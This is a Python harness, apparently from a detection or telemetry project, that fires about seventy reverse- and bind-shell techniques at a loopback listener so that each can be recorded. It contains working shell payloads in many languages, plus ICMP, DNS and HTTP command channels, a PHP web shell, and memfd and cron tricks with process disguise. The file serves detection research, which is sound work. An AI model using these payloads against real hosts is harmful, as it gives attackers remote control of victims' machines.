#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright The Acheron Authors
"""Runs each way of getting a shell over the network once, harmlessly, against a listener on loopback.

usage: run.py RESULT [NAME...]     under ./acheron collect --sink file:EVENTS; then ./cut.py EVENTS RESULT

Each attack is asked for nothing but `echo`, `uname`, `whoami` and `id`. RESULT gets a line per attack: name, pid of its first process, and
whether a shell answered. What a machine lacks fails here and is left out. A few need root.
"""
import json
import os
import select
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time

MARK = "acheron-recorded"
COMMAND = f"echo {MARK}-$((6*7))\nuname -a\nwhoami\nid\n"
BOUND = 10

PY_CALL = "import os,socket,subprocess,pty,threading,time\ns=socket.create_connection(('127.0.0.1',$P))\n"
COPY = """
p=subprocess.Popen(ARGV,stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
def back():
  while d:=os.read(p.stdout.fileno(),4096): s.sendall(d)
threading.Thread(target=back,daemon=True).start()
while d:=s.recv(4096): os.write(p.stdin.fileno(),d)
p.stdin.close();p.wait()
"""
MEMORY_FILE = """
m=os.memfd_create('x',0)
os.sendfile(m,os.open('/bin/dash',os.O_RDONLY),0,1<<20)
[os.dup2(s.fileno(),i) for i in range(3)]
os.execve(m,['[kworker/0:1]','-i'],{})
"""
C_URING = r"""
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <string.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int n, char **v) {
  struct io_uring_params p; memset(&p, 0, sizeof p);
  int ring = syscall(SYS_io_uring_setup, 4, &p);
  char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, 3, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  struct io_uring_sqe *e = mmap(0, 4 * sizeof *e, 3, MAP_SHARED, ring, IORING_OFF_SQES);
  struct sockaddr_in a = {AF_INET, htons(atoi(v[1])), {htonl(INADDR_LOOPBACK)}};
  int s = socket(AF_INET, SOCK_STREAM, 0);
  memset(e, 0, sizeof *e);
  e->opcode = IORING_OP_CONNECT; e->fd = s; e->addr = (unsigned long) &a; e->off = sizeof a;
  ((unsigned *) (sq + p.sq_off.array))[0] = 0;
  __atomic_store_n((unsigned *) (sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
  syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
  dup2(s, 0); dup2(s, 1); dup2(s, 2);
  execl("/bin/sh", "sh", "-i", (char *) 0);
}
"""
C_PRELOAD = r"""
#include <arpa/inet.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void go(void) {
  struct sockaddr_in a = {AF_INET, htons(atoi(getenv("AT"))), {htonl(INADDR_LOOPBACK)}};
  int s = socket(AF_INET, SOCK_STREAM, 0);
  unsetenv("LD_PRELOAD");
  if (connect(s, (struct sockaddr *) &a, sizeof a) == 0) {
    dup2(s, 0); dup2(s, 1); dup2(s, 2);
    execl("/bin/sh", "sh", "-i", (char *) 0);
  }
}
"""
RUST_PIPES = r"""
use std::io::{copy, Read, Write};
use std::process::{Command, Stdio};
fn main() {
    let port = std::env::args().nth(1).unwrap();
    let mut s = std::net::TcpStream::connect(format!("127.0.0.1:{port}")).unwrap();
    let mut c = Command::new("/bin/sh").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let (mut i, mut o, mut t) = (c.stdin.take().unwrap(), c.stdout.take().unwrap(), s.try_clone().unwrap());
    std::thread::spawn(move || copy(&mut o, &mut t));
    let mut b = [0; 4096];
    while let Ok(n) = s.read(&mut b) { if n == 0 { break; } i.write_all(&b[..n]).unwrap(); i.flush().unwrap(); }
}
"""
RUST_DUP = r"""
use std::os::fd::OwnedFd;
use std::process::{Command, Stdio};
fn main() {
    let port = std::env::args().nth(1).unwrap();
    let s = std::net::TcpStream::connect(format!("127.0.0.1:{port}")).unwrap();
    let f = || Stdio::from(OwnedFd::from(s.try_clone().unwrap()));
    Command::new("/bin/sh").arg("-i").stdin(f()).stdout(f()).stderr(f()).status().unwrap();
}
"""
JAVA = """
import java.io.*; import java.net.*;
public class Copy { public static void main(String[] a) throws Exception {
  Socket s = new Socket("127.0.0.1", Integer.parseInt(a[0]));
  Process p = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();
  Thread t = new Thread(() -> { try { p.getInputStream().transferTo(s.getOutputStream()); } catch (IOException e) {} });
  t.setDaemon(true); t.start();
  InputStream in = s.getInputStream(); OutputStream out = p.getOutputStream(); byte[] b = new byte[4096];
  for (int n; (n = in.read(b)) > 0;) { out.write(b, 0, n); out.flush(); }
  p.destroy();
} }
"""
JSHELL = ('var s=new java.net.Socket("127.0.0.1",$P);'
          'var p=new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();'
          'new Thread(()->{try{p.getInputStream().transferTo(s.getOutputStream());}catch(Exception e){}}).start();'
          'var b=new byte[999];var n=0;'
          'while((n=s.getInputStream().read(b))>0){p.getOutputStream().write(b,0,n);p.getOutputStream().flush();}')
PASS_SOCKET = """
import socket,os,sys,time,array
if sys.argv[1]=='give':
  s=socket.create_connection(('127.0.0.1',$P)); u=socket.socket(socket.AF_UNIX)
  for _ in range(50):
    try: u.connect('passed'); break
    except OSError: time.sleep(0.1)
  socket.send_fds(u,[b'x'],[s.fileno()]); time.sleep(5)
else:
  u=socket.socket(socket.AF_UNIX); u.bind('passed'); u.listen(); c,_=u.accept()
  f=socket.recv_fds(c,1,1)[1][0]
  [os.dup2(f,i) for i in range(3)]
  os.execv('/bin/sh',['sh','-i'])
"""
TAKE_SOCKET = """
import socket,os,sys,time,ctypes
if sys.argv[1]=='hold':
  s=socket.create_connection(('127.0.0.1',$P)); open('held','w').write('%d %d'%(os.getpid(),s.fileno())); time.sleep(6)
else:
  while not os.path.exists('held') or not open('held').read(): time.sleep(0.1)
  pid,fd=map(int,open('held').read().split())
  f=ctypes.CDLL(None).syscall(438,os.pidfd_open(pid),fd,0)
  [os.dup2(f,i) for i in range(3)]
  os.execv('/bin/sh',['sh','-i'])
"""
HIGH = """
import socket,os,subprocess,threading
s=socket.create_connection(('127.0.0.1',$P)); os.dup2(s.fileno(),200); s.close(); s=socket.socket(fileno=200)
line='sh'
for _ in range(6): line="sh -c '%s; true'" % line.replace("'","'\\\\''")
ARGV=['/bin/sh','-c',line+'; true']
""" + COPY
ICMP = """
import socket,subprocess
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP)
while True:
  d,a=s.recvfrom(2000); d=d[20:]
  if d[0]==8 and d[4:6]==b'AC':
    out=subprocess.run(['/bin/sh','-c',d[8:].decode()],capture_output=True).stdout
    h=b'\\0\\0\\0\\0OK\\0\\0'+out
    if len(h)%2: h+=b' '
    c=sum(h[i]*256+h[i+1] for i in range(0,len(h),2)); c=(c>>16)+(c&65535); c=~(c+(c>>16))&65535
    s.sendto(h[:2]+c.to_bytes(2,'big')+h[4:],a); break
"""
DNS_SHELL = """
import socket,subprocess,struct,time
def ask(name):
  q=b''.join(bytes([len(l)])+l for l in name.split(b'.'))+b'\\0'
  u.send(struct.pack('>6H',7,256,1,0,0,0)+q+struct.pack('>2H',16,1)); r=u.recv(999); return r[len(q)+29:]
u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.connect(('127.0.0.1',53))
n=0
while True:
  n+=1; c=ask(b'p%d.t.example' % n)
  if c==b'bye': break
  if c!=b'-':
    out=subprocess.run(['/bin/sh','-c',c.decode()],capture_output=True).stdout.hex().encode()
    for i in range(0,len(out),60): n+=1; ask(out[i:i+60]+b'.r%d.t.example' % n)
  time.sleep(0.1)
"""
POLL = """
import urllib.request,subprocess,time
while True:
  c=urllib.request.urlopen('http://127.0.0.1:$P/next').read().decode()
  if c=='bye': break
  if c: urllib.request.urlopen('http://127.0.0.1:$P/out',subprocess.run(['/bin/sh','-c',c],capture_output=True).stdout or b' ')
  time.sleep(0.2)
"""
NODE = ("const s=require('net').connect($P,'127.0.0.1',()=>{const p=require('child_process').spawn('/bin/sh',[]);"
        "s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s);s.on('end',()=>p.kill());});")
PERL = ('use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($P,inet_aton("127.0.0.1")));'
        'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");')
GAWK = """BEGIN{s="/inet/tcp/0/127.0.0.1/$P";while((s|&getline c)>0){while((c|getline r)>0)print r|&s;close(c)}}"""
GAWK_BIND = """BEGIN{s="/inet/tcp/$P/0/0";while((s|&getline c)>0){while((c|getline r)>0)print r|&s;close(c)}}"""
LUA = ("local s=require('socket').tcp();s:connect('127.0.0.1',$P);while true do local c=s:receive();if not c then break end;"
       "local f=io.popen(c,'r');s:send(f:read('*a'));f:close() end")
LUA_NCAT = "while true do local c=io.read() if not c then break end local f=io.popen(c) io.write(f:read('*a')) io.flush() f:close() end"
TCL = ("set s [socket 127.0.0.1 $P]; while {[gets $s c] >= 0} {catch {exec sh -c $c} r; puts $s $r; flush $s}")
PHP_PIPES = ("$s=fsockopen('127.0.0.1',$P);$p=proc_open('sh',[['pipe','r'],['pipe','w'],['pipe','w']],$f);"
             "while(($c=fgets($s))!==false){fwrite($f[0],$c);fflush($f[0]);fwrite($s,fgets($f[1]));}")
BASH_CALL = "bash -c 'bash -i >& /dev/tcp/127.0.0.1/$P 0>&1'"
SOCAT_BIND = "socat TCP-LISTEN:$P,bind=127.0.0.1 EXEC:'sh -i',pty,stderr,setsid"


def python(text):
    return ["python3", "-c", text]


# name: (how the attacker talks to it, command line or list, files it needs)
VARIANTS = {
    "01-bash-dev-tcp": ("call", BASH_CALL),
    "02-bash-read-loop": ("call", "bash -c 'exec 5<>/dev/tcp/127.0.0.1/$P; while read -r l <&5; do eval \"$l\" >&5 2>&5; done'"),
    "03-bash-dev-udp": ("udp", "bash -c 'bash -i >& /dev/udp/127.0.0.1/$P 0>&1'"),
    "04-sh-descriptor": ("call", "bash -c 'exec 196<>/dev/tcp/127.0.0.1/$P; sh <&196 >&196 2>&196'"),
    "05-zsh-ztcp": ("call", ["zsh", "-c", "zmodload zsh/net/tcp && ztcp 127.0.0.1 $P && zsh -i >&$REPLY 2>&$REPLY 0>&$REPLY"]),
    "06-fifo-nc": ("call", "mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 $P > f"),
    "07-fifo-openssl": ("tls", "mkfifo f; sh -i < f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$P > f 2>/dev/null"),
    "08-fifo-telnet": ("call", "mkfifo f; inetutils-telnet 127.0.0.1 $P < f | sh > f 2>&1"),
    "08-two-port-telnet": ("two", "(sleep 9 | inetutils-telnet 127.0.0.1 $P) | sh | inetutils-telnet 127.0.0.1 $Q"),
    "09-nc-exec": ("call", "nc.traditional -e /bin/sh 127.0.0.1 $P"),
    "09-ncat-sh-exec": ("call", "ncat --sh-exec 'sh -i' 127.0.0.1 $P"),
    "10-ncat-ssl": ("tls", "ncat --ssl -e /bin/sh 127.0.0.1 $P"),
    "10-ncat-lua": ("call", "ncat --lua-exec loop.lua 127.0.0.1 $P", {"loop.lua": LUA_NCAT}),
    "11-busybox-nc": ("call", "busybox nc 127.0.0.1 $P -e sh"),
    "11-busybox-sh": ("call", "mkfifo f; busybox sh -i < f 2>&1 | busybox nc 127.0.0.1 $P > f"),
    "12-nc-coprocess": ("call", "bash -c 'coproc nc 127.0.0.1 $P; exec sh <&${COPROC[0]} >&${COPROC[1]} 2>&1'"),
    "13-socat-pty": ("call", "socat TCP:127.0.0.1:$P EXEC:'bash -li',pty,stderr,setsid,sigint,sane,ctty"),
    "14-socat-tls": ("tls", "socat OPENSSL:127.0.0.1:$P,verify=0 EXEC:/bin/sh"),
    "15-python-dup2": ("call", python(PY_CALL + "[os.dup2(s.fileno(),i) for i in range(3)]\nsubprocess.call(['/bin/sh','-i'])")),
    "15-python-pty": ("call", python(PY_CALL + "[os.dup2(s.fileno(),i) for i in range(3)]\npty.spawn('/bin/sh')")),
    "16-python-pipes": ("call", python(PY_CALL + COPY.replace("ARGV", "['/bin/sh','-i']"))),
    "17-perl-socket": ("call", ["perl", "-e", PERL]),
    "17-perl-system": ("call", ["perl", "-MIO::Socket", "-e", "$c=IO::Socket::INET->new('127.0.0.1:$P');STDIN->fdopen($c,'r');"
                                "STDOUT->fdopen($c,'w');$|=1;system($_) while <STDIN>;"]),
    "18-ruby-spawn": ("call", ["ruby3.1", "--disable-gems", "-rsocket", "-e",
                               "c=TCPSocket.new('127.0.0.1',$P);spawn('sh',[:in,:out,:err]=>c);Process.wait"]),
    "18-ruby-popen": ("call", ["ruby3.1", "--disable-gems", "-rsocket", "-e",
                               "c=TCPSocket.new('127.0.0.1',$P);while l=c.gets;IO.popen(l,'r'){|i|c.print i.read};end"]),
    "19-php-descriptors": ("call", ["php8.2", "-n", "-r", "$s=fsockopen('127.0.0.1',$P);proc_open('sh -i',[$s,$s,$s],$p);sleep(4);"]),
    "19-php-inherited": ("call", ["php8.2", "-n", "-r", "$s=fsockopen('127.0.0.1',$P);exec('sh <&3 >&3 2>&3');"]),
    "19-php-pipes": ("call", ["php8.2", "-n", "-r", PHP_PIPES]),
    "20-lua-popen": ("call", ["lua5.1", "-e", LUA]),
    "21-gawk-connect": ("call", ["gawk", GAWK]),
    "21-gawk-listen": ("bind", ["gawk", GAWK_BIND]),
    "22-node-spawn": ("call", ["node", "-e", NODE]),
    "23-tcl-exec": ("call", "tclsh s.tcl", {"s.tcl": TCL}),
    "24-rust-socket": ("call", "./agent $P", {"agent.rs": RUST_DUP}),
    "24-rust-pipes": ("call", "./agent $P", {"agent.rs": RUST_PIPES}),
    "25-jshell": ("call", "jshell -s s.jsh", {"s.jsh": JSHELL + "\n/exit\n"}),
    "26-java-copy": ("call", "java -XX:TieredStopAtLevel=1 -cp . Copy $P", {"Copy.java": JAVA}),
    "27-xterm": ("display", "DISPLAY=127.0.0.1:$D xterm -e sh -c 'id; sleep 2'"),
    "28-memfd": ("call", python(PY_CALL + MEMORY_FILE)),
    "29-deleted-program": ("call", python(PY_CALL + "[os.dup2(s.fileno(),i) for i in range(3)]\nimport shutil\n"
                                          "shutil.copy('/bin/dash','agent');f=os.open('agent',os.O_RDONLY);os.unlink('agent')\n"
                                          "os.execve(f,['sh','-i'],{})")),
    "30-detached": ("call", "(setsid nohup sh -c \"bash -c 'sleep 1; exec bash -i >& /dev/tcp/127.0.0.1/$P 0>&1'\" >/dev/null 2>&1 &)"),
    "31-script-wrapper": ("upgrade", BASH_CALL, "script -qc sh /dev/null"),
    "31-python-wrapper": ("upgrade", BASH_CALL, "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'"),
    "31-expect-wrapper": ("upgrade", BASH_CALL, "expect -c 'spawn sh; interact'"),
    "32-bind-python": ("bind", python("import socket,os\nl=socket.create_server(('127.0.0.1',$P));c,_=l.accept()\n"
                                      "[os.dup2(c.fileno(),i) for i in range(3)]\nos.execv('/bin/sh',['sh','-i'])")),
    "32-bind-nc": ("bind", "nc.traditional -l -s 127.0.0.1 -p $P -e /bin/sh"),
    "32-bind-socat": ("bind", SOCAT_BIND),
    "33-tunnel": ("tunnel", "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i key -p $P -NR 127.0.0.1:$Q:127.0.0.1:$B root@127.0.0.1"
                            " & socat TCP-LISTEN:$B,bind=127.0.0.1 EXEC:sh; kill %1"),
    "34-unix-relay": ("call", "socat UNIX-LISTEN:u EXEC:sh & sleep 0.5; socat TCP:127.0.0.1:$P UNIX-CONNECT:u"),
    "34-loopback-relay": ("call", "socat TCP-LISTEN:$B,bind=127.0.0.1 EXEC:sh & sleep 0.5; socat TCP:127.0.0.1:$P TCP:127.0.0.1:$B"),
    "35-high-descriptor": ("call", python(HIGH)),
    "36-late-redirect": ("call", "bash -c 'sleep 0.5; exec 3<>/dev/tcp/127.0.0.1/$P; exec 0<&3 1>&3 2>&3; while read -r l; do eval \"$l\"; done'"),
    "37-scm-rights": ("call", "setsid python3 s.py take & python3 s.py give", {"s.py": PASS_SOCKET}),
    "37-pidfd-getfd": ("call", "setsid python3 s.py hold & setsid python3 s.py take; wait", {"s.py": TAKE_SOCKET}),
    "38-io-uring": ("call", "./agent $P", {"agent.c": C_URING}),
    "39-icmp": ("icmp", python(ICMP)),
    "39-dns": ("dns", python(DNS_SHELL)),
    "40-web-shell": ("http", "exec setpriv --reuid=33 --regid=33 --clear-groups php8.2 -n -S 127.0.0.1:$P", {"c.php": "<?php system($_GET['c']);"}),
    "40-polling": ("poll", python(POLL)),
    "41-cron": ("cron", "cron -f", {}),
    "41-inetd": ("bind", "inetd -d i.conf", {"i.conf": "127.0.0.1:$P stream tcp nowait root /bin/sh sh -i\n"}),
    "41-preload": ("call", "AT=$P LD_PRELOAD=./agent.so id", {"agent.so.c": C_PRELOAD}),
    "42-gdb": ("call", ["gdb", "-nx", "-batch", "-ex", "!bash -c 'bash -i >& /dev/tcp/127.0.0.1/$P 0>&1'"]),
    "42-gdb-python": ("call", ["gdb", "-nx", "-batch", "-ex", "python " + "; ".join(
        (PY_CALL + "[os.dup2(s.fileno(),i) for i in range(3)]\nos.system('/bin/sh')").strip().split("\n"))]),
    "42-vim": ("call", ["vim", "-u", "NONE", "-es", "-c", "!bash -c 'bash -i >& /dev/tcp/127.0.0.1/$P 0>&1'", "-c", "q!"]),
}


# Ways in which the attacker has to prepare something before the attack starts.
NEEDS_START = ("display", "tunnel", "dns", "cron", "udp")


class Attacker:
    """The other end, in the process that records: nothing of it gets into the recording."""

    def __init__(self, folder):
        self.folder = folder
        self.port, self.listener = self.listen()
        self.second, self.other = self.listen()
        self.third = self.free()
        self.helpers = []

    @staticmethod
    def listen():
        server = socket.create_server(("127.0.0.1", 0))
        server.settimeout(BOUND)
        return server.getsockname()[1], server

    @staticmethod
    def free():
        with socket.create_server(("127.0.0.1", 0)) as server:
            return server.getsockname()[1]

    def call(self):
        return talk(self.listener.accept()[0])

    def tls(self):
        subprocess.run("openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -subj /CN=localhost -days 2".split(),
                       cwd=self.folder, check=True, capture_output=True)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.folder + "/c.pem", self.folder + "/k.pem")
        return talk(context.wrap_socket(self.listener.accept()[0], server_side=True))

    def two(self):
        give, take = self.listener.accept()[0], self.other.accept()[0]
        give.sendall(COMMAND.encode())
        return answered(take)

    def udp(self, run):
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind(("127.0.0.1", self.port))
        server.settimeout(BOUND)
        run({})
        _, peer = server.recvfrom(4096)
        server.connect(peer)
        type_bytes(server, COMMAND)
        good = answered(server)
        type_bytes(server, "exit\n")
        return good

    def bind(self):
        self.close()
        return talk(reach(self.port))

    def upgrade(self, wrapper):
        shell = self.listener.accept()[0]
        shell.sendall(wrapper.encode() + b"\n")
        time.sleep(1.5)
        shell.sendall(COMMAND.encode())
        good = answered(shell)
        shell.sendall(b"exit\nexit\n")
        time.sleep(0.5)
        shell.close()
        return good

    def display(self, run):
        number = self.free() - 6000
        self.helper("Xvfb", ":%d" % number, "-listen", "tcp", "-ac", "-nolock", "-screen", "0", "640x480x8")
        time.sleep(4)
        run({"D": str(number)})
        time.sleep(4)
        return True

    def tunnel(self, run):
        self.close()
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "key"], cwd=self.folder, check=True)
        shutil.copy(self.folder + "/key.pub", self.folder + "/keys")
        self.helper("/usr/sbin/sshd", "-D", "-e", "-f", "/dev/null", "-h", self.folder + "/key", "-p", str(self.port), "-o", "StrictModes=no",
                    "-o", "AuthorizedKeysFile=" + self.folder + "/keys", "-o", "ListenAddress=127.0.0.1", "-o", "PidFile=none")
        time.sleep(1)
        run({})
        return talk(reach(self.second))

    def icmp(self):
        time.sleep(1)
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        raw.settimeout(BOUND)
        raw.sendto(icmp(b"\x08\0\0\0AC\0\0" + COMMAND.strip().encode()), ("127.0.0.1", 0))
        return until(lambda: raw.recv(4096))

    def dns(self, run):
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind(("127.0.0.1", 53))
        server.settimeout(BOUND)
        run({})
        commands, got, tail = [b"-"] * 10 + [COMMAND.strip().encode(), b"-", b"-"], b"", 0
        while tail < 8:
            query, peer = server.recvfrom(999)
            question = query[12:query.index(b"\0", 12) + 5]
            label = query[13:13 + query[12]]
            if not label.startswith(b"p"):
                got += bytes.fromhex(label.decode())
            text = commands.pop(0) if commands else b"-"
            if not commands:
                tail += 1
                text = b"bye" if tail == 8 else text
            server.sendto(query[:2] + struct.pack(">5H", 0x8180, 1, 1, 0, 0) + question + b"\xc0\x0c" + struct.pack(
                ">2HIHB", 16, 1, 1, len(text) + 1, len(text)) + text, peer)
        return b"uid=" in got

    def http(self):
        self.close()
        got = b""
        reach(self.port).close()
        for command in ("id", "uname%20-a", "whoami", "echo%20" + MARK + "-42", "id"):
            web = socket.create_connection(("127.0.0.1", self.port))
            web.sendall(f"GET /c.php?c={command} HTTP/1.0\r\n\r\n".encode())
            while data := web.recv(4096):
                got += data
        return (MARK + "-42").encode() in got

    def poll(self):
        commands, got = ["", "id", "", "uname", "", "whoami", "", "echo " + MARK + "-42", "", "id"], b""
        while True:
            web = self.listener.accept()[0]
            web.settimeout(BOUND)
            request = web.recv(4096)
            text = ""
            if request.startswith(b"GET"):
                text = commands.pop(0) if commands else "bye"
            else:
                got += request
                while b"\r\n\r\n" in got and got.endswith(b"\r\n\r\n"):  # the body comes by itself
                    got += web.recv(4096)
            web.sendall(f"HTTP/1.0 200 OK\r\nContent-Length: {len(text)}\r\n\r\n{text}".encode())
            web.close()
            if text == "bye":
                return (MARK + "-42").encode() in got

    def cron(self, run):
        with open("/etc/cron.d/zz-recorded", "w", encoding="ascii") as job:
            job.write("HOME=/var/empty\n* * * * * root %s\n" % BASH_CALL.replace("$P", str(self.port)))
        run({})
        self.listener.settimeout(70)
        good = self.call()
        os.unlink("/etc/cron.d/zz-recorded")
        return good

    def helper(self, *command):
        self.helpers.append(subprocess.Popen(command, cwd=self.folder, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))

    def close(self):
        self.listener.close()
        self.other.close()


def type_bytes(server, text):
    """A shell reads byte by byte, and what is left of a datagram is lost."""
    for letter in text:
        server.send(letter.encode())


def icmp(packet):
    packet += b" " * (len(packet) % 2)
    total = sum(packet[i] * 256 + packet[i + 1] for i in range(0, len(packet), 2))
    total = (total >> 16) + (total & 65535)
    return packet[:2] + (~(total + (total >> 16)) & 65535).to_bytes(2, "big") + packet[4:]


def reach(port):
    for _ in range(60):
        try:
            return socket.create_connection(("127.0.0.1", port), 2)
        except OSError:
            time.sleep(0.2)
    raise OSError("nobody listens")


def talk(shell):
    shell.settimeout(BOUND)
    time.sleep(0.3)
    for line in COMMAND.splitlines(True):
        shell.sendall(line.encode())
        time.sleep(0.3)
    good = answered(shell)
    try:
        shell.sendall(b"exit\n")
        time.sleep(0.3)
    except OSError:
        pass
    shell.close()
    return good


def answered(shell):
    shell.settimeout(BOUND)
    return until(lambda: shell.recv(4096))


def until(read):
    got, end = b"", time.time() + BOUND
    while time.time() < end and b"uid=" not in got:
        got += read() or b""
    return b"uid=" in got


def prepare(folder, files):
    for name, text in files.items():
        with open(os.path.join(folder, name), "w", encoding="utf-8") as file:
            file.write(text)
        build = {"agent.rs": "rustc -O agent.rs", "agent.c": "gcc -o agent agent.c", "agent.so.c": "gcc -shared -fPIC -o agent.so agent.so.c",
                 "Copy.java": "javac Copy.java"}.get(name)
        if build:
            subprocess.run(build.split(), cwd=folder, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def record(name, way, command, extra):
    folder = tempfile.mkdtemp(prefix="v")
    os.chmod(folder, 0o755)
    attacker = Attacker(folder)
    started = []

    def run(values):
        values = {"HERE": folder, "P": str(attacker.port), "Q": str(attacker.second), "B": str(attacker.third), **values}
        def fill(text):
            for key, value in values.items():
                text = text.replace("$" + key, value)
            return text
        for file, text in (extra.items() if isinstance(extra, dict) else ()):
            if "$P" in text:
                with open(os.path.join(folder, file), "w", encoding="utf-8") as out:
                    out.write(fill(text))
        line = ["/bin/sh", "-c", fill(command)] if isinstance(command, str) else [fill(part) for part in command]
        started.append(subprocess.Popen(line, cwd=folder, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL, env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C", "HOME": folder}))

    good, why = False, ""
    begin = time.time()
    try:
        if isinstance(extra, dict):
            prepare(folder, extra)
        if way in NEEDS_START:
            good = getattr(attacker, way)(run)
        else:
            run({})
            good = getattr(attacker, way)(extra) if way == "upgrade" else getattr(attacker, way)()
    except (OSError, ValueError, subprocess.CalledProcessError) as e:
        why = f"{type(e).__name__}: {e}"
    end = time.time() + 3
    while time.time() < end and started and started[0].poll() is None:
        time.sleep(0.1)
    for process in started + attacker.helpers:
        try:
            os.killpg(process.pid, signal.SIGTERM)
        except OSError:
            pass
    attacker.close()
    time.sleep(0.3)
    shutil.rmtree(folder, ignore_errors=True)
    return {"name": name, "pid": started[0].pid if started else 0, "answered": good, "why": why, "begin": begin, "end": time.time(), "folder": folder}


def main():
    names = sys.argv[2:] or list(VARIANTS)
    with open(sys.argv[1], "a", encoding="utf-8") as out:
        for name in names:
            way, command, *extra = VARIANTS[name]
            result = record(name, way, command, extra[0] if extra else None)
            print(f"{name:22} {'answered' if result['answered'] else 'SILENT ' + result['why']}", flush=True)
            out.write(json.dumps(result) + "\n")
            out.flush()
            time.sleep(0.5)


if __name__ == "__main__":
    main()
